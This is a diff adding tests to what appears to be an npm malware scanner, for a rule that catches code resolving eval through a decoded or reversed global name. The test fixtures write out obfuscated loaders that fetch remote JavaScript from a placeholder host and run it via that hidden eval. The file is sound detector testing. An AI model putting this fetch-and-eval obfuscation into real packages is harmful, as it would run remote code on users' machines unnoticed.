@@ -295,4 +295,30 @@ test('data_string_code_exec honest twins: plural expressions evaluated; a shell 
   );
 });
 
+// ---- a global looked up by a decoded name -----------------------------------------------------------
+
+test('global_name_decoded: a Proxy trap that resolves eval from a reversed name (real shape) and variants', async () => {
+  const r = await rateNpmFiles(npm10('proxy-trap-resolves-eval').files);
+  assert.is(r.level, 'BLOCKED', r.rules.join(', '));
+  assert.ok(r.rules.includes('global_name_decoded:HIGH'));
+  // Variants: base64 through atob, character codes, Buffer hex; a fetch in the same file.
+  for (const key of ['atob(k)', 'String.fromCharCode(...k.map((c) => c - 1))', "Buffer.from(k, 'hex').toString()"]) {
+    await npmBlocked(
+      {
+        'package.json': pj(),
+        'index.js': `const resolve = (k) => globalThis[${key}];\nfetch('https://cdn.example/p.js').then((r) => r.text()).then((s) => resolve(K)(s));\nmodule.exports = {};\n`,
+      },
+      'global_name_decoded',
+    );
+  }
+});
+
+test('global_name_decoded honest twins: feature detection by a plain name, a literal, a lower-cased key', async () => {
+  await npmHonest({
+    'package.json': pj(),
+    'index.js':
+      "const has = (name) => typeof globalThis[name] !== 'undefined';\nconst raf = window['requestAnimationFrame'] || ((f) => setTimeout(f, 16));\nconst g = (k) => global[k.toLowerCase()];\nmodule.exports = { has, raf, g, rev: (s) => s.split('').reverse().join('') };\nfetch('https://api.example/x');\n",
+  });
+});
+
 test.run();
